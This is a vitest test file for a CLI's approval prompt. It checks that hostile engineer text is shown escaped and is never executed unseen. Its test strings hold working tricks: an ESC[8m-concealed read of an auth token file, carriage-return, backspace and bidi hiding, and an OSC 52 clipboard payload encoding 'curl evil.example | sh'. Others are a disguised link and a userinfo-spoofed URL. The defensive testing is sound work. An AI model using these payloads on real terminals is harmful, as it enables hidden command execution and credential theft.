/**
 * Hostile engineer text against the real CLI in a pseudo-terminal, read back through a headless
 * terminal emulator as a person would see it (concealed text invisible, overwritten text gone).
 * For each case the screen shows every byte that will run or be read, escaped, or the server
 * refuses the request; approving runs exactly what was shown.
 */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { withTaskLock } from '../packages/server/src/tasks/taskTransaction';
import type { TestSession } from '../packages/server/test/support/wsClient';
import { framesFor, useFixRun, waitForFrame } from './fix-harness';
import { type TerminalScreen, terminalScreen } from './harness/terminalScreen';

const run = useFixRun();
const COLS = 120;
const ROWS = 40;

async function start() {
  const world = await run.world();
  const live = await run.liveSession(world, { cols: COLS, rows: ROWS });
  const screen = terminalScreen(live.cli, COLS, ROWS);
  run.closeAfter({ close: () => screen.dispose() });
  return { world, screen, ...live };
}

/**
 * Asks for a command or a file. Returns the request id, or null when the server refused it
 * with E_VALIDATION (the server may refuse control characters in commands and paths).
 */
async function ask(engineer: TestSession, type: 'request_command' | 'request_file', payload: object) {
  const r = await engineer.request(type, { reason: 'to check', ...payload });
  if (r.error) {
    expect(r.error.code).toBe('E_VALIDATION');
    return null;
  }
  const ev = await engineer.waitForSeq(r.ack?.seq as number);
  return (ev.payload as { requestId: string }).requestId;
}

/** The rows of the approval box, inner text only (borders and padding removed). */
function promptText(visible: string): string {
  return visible
    .split('\n')
    .filter((l) => l.startsWith('║'))
    .map((l) => l.replace(/^║ ?/, '').replace(/ *║$/, ''))
    .join('\n');
}

async function approveAndFinish(
  screen: TerminalScreen,
  cli: { press(k: string): void },
  engineer: TestSession,
  id: string,
) {
  await screen.waitFor('[y] run once');
  cli.press('y');
  const result = await waitForFrame(engineer, 'command_result', id, 15_000);
  expect(framesFor(engineer, 'approve_command', id)[0]?.payload).toMatchObject({ approved: true });
  return result;
}

describe('codevf fix: hostile engineer text is shown, byte for byte', () => {
  it('a command hiding its tail with ESC[8m, \\r or backspaces shows every byte; y runs exactly that', async () => {
    const { world, cli, engineer, screen } = await start();

    // The example, denied: the conceal code and the token read are both on screen.
    const steal = 'npm test \x1b[8m; cat ~/.config/codevf/auth.json #\x1b[0m';
    const a = await ask(engineer, 'request_command', { command: steal });
    if (a) {
      const seen = promptText(await screen.waitFor('[y] run once'));
      expect(seen).toContain('npm test ␛[8m; cat ~/.config/codevf/auth.json #␛[0m');
      cli.press('n');
      await waitForFrame(engineer, 'approve_command', a);
      expect(framesFor(engineer, 'command_output', a)).toHaveLength(0);
    }

    // Same trick, harmless tail, approved: what ran is what was shown.
    const cases = [
      {
        command: 'echo visible \x1b[8m; touch ran-concealed #\x1b[0m',
        shown: 'echo visible ␛[8m; touch ran-concealed #␛[0m',
        file: 'ran-concealed',
      },
      { command: 'touch ran-cr #\r   npm test', shown: 'touch ran-cr #\\r   npm test', file: 'ran-cr' },
      {
        command: 'touch ran-bs; \b\b\b\b\b\b\b\b\b\b\b\b\b\bnpm test',
        shown: 'touch ran-bs; \\b\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b\\bnpm test',
        file: 'ran-bs',
      },
      { command: 'touch ran-bidi # \u202Etset mpn', shown: 'touch ran-bidi # <U+202E>tset mpn', file: 'ran-bidi' },
    ];
    for (const c of cases) {
      const id = await ask(engineer, 'request_command', { command: c.command });
      if (!id) continue;
      const seen = promptText(await screen.waitFor(c.shown.slice(0, 12)));
      expect(seen, JSON.stringify(c.command)).toContain(c.shown);
      await approveAndFinish(screen, cli, engineer, id);
      expect(existsSync(join(world.project, c.file)), c.file).toBe(true);
      await screen.waitFor(/[✓!] .*— exit 0/);
    }
    expect(screen.title()).toBe('');
  });

  it('60 newlines then a command: the keys stay off until the whole request fits, then every line is shown', async () => {
    const { world, cli, engineer, screen } = await start();
    const command = `echo top${'\n'.repeat(60)}touch ran-after-newlines`;
    const id = await ask(engineer, 'request_command', { command });
    if (!id) return;
    await screen.waitFor('The terminal is too small to show the whole request');
    cli.press('y');
    await new Promise((r) => setTimeout(r, 600));
    expect(framesFor(engineer, 'approve_command', id)).toHaveLength(0);
    expect(await screen.visible()).not.toContain('[y] run once');

    screen.resize(COLS, 90);
    const seen = promptText(await screen.waitFor('[y] run once'));
    expect(seen).toMatch(/^ {3}1 │ echo top$/m);
    expect(seen).toMatch(/^ {2}61 │ touch ran-after-newlines$/m);
    cli.press('y');
    await waitForFrame(engineer, 'command_result', id, 15_000);
    expect(existsSync(join(world.project, 'ran-after-newlines'))).toBe(true);
  });

  it('a path with ESC[8m shows its hidden part; y sends the file that was shown', async () => {
    const { world, cli, engineer, screen } = await start();
    mkdirSync(join(world.project, 'config'));
    writeFileSync(join(world.project, 'config', 'x.yml'), 'name: demo\n');
    writeFileSync(join(world.project, 'README.md'), '# demo\n');
    const id = await ask(engineer, 'request_file', { path: 'README.md\x1b[8m/../config/x.yml' });
    if (!id) return;
    const seen = await screen.waitFor('[y] send');
    expect(seen).toContain('README.md␛[8m/../config/x.yml');
    cli.press('y');
    const upload = await waitForFrame(engineer, 'file_upload', id, 15_000);
    expect((upload.payload as { content: string }).content).toBe('name: demo\n');
  });

  it('chat cannot set the clipboard, hide a link, retitle the window or reverse text', async () => {
    const { cli, engineer, screen } = await start();
    const texts = [
      'clip \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 end',
      'link \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\ end',
      'title \x1b]0;codevf: all approved\x07 end',
      'bidi \u202Egnp.exe end',
    ];
    for (const text of texts) await engineer.expectAck('engineer_message', { text });
    const seen = await screen.waitFor('bidi <U+202E>gnp.exe end');
    expect(seen).toContain('clip ␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a end');
    expect(seen).toContain('link ␛]8;;https://evil.example␛\\docs␛]8;;␛\\ end');
    expect(seen).toContain('title ␛]0;codevf: all approved\\a end');
    // Nothing of it reached the terminal as a sequence.
    expect(cli.raw()).not.toContain('\x1b]');
    expect(cli.raw()).not.toContain('\u202E');
    expect(screen.title()).toBe('');
  });

  it('a screenshare link with user info cannot be opened; a good one shows its host on its own line', async () => {
    const { cli, engineer, screen, world, task } = await start();
    const hostile = { url: 'https://meet.google.com@evil.example/x' };
    // The server refuses it; the CLI must still refuse to open it should one arrive anyway (an
    // older or compromised server), so it is stored straight into the transcript for that.
    expect((await engineer.request('screenshare_request', hostile)).error?.code).toBe('E_VALIDATION');
    await withTaskLock(world.server.ctx, task.id, new Date(), (tx) =>
      tx.append('screenshare_request', hostile, { senderId: world.engineer.user.id }),
    );
    await screen.waitFor('cannot be opened');
    cli.press('o');
    await new Promise((r) => setTimeout(r, 500));
    const after = await screen.visible();
    expect(after).not.toContain('Could not open a browser');
    expect(after).toContain('user name before its host');
    cli.press('escape');
    // The next link only once the prompt is gone: a late escape would dismiss the new prompt.
    await screen.waitFor(/^(?![\s\S]*user name before its host)/);
    await engineer.expectAck('screenshare_request', { url: 'https://meet.example.test/abc' });
    const seen = await screen.waitFor('Engineer requests screenshare on:');
    expect(seen).toMatch(/^│ {3}meet\.example\.test +│$/m);
  });
});
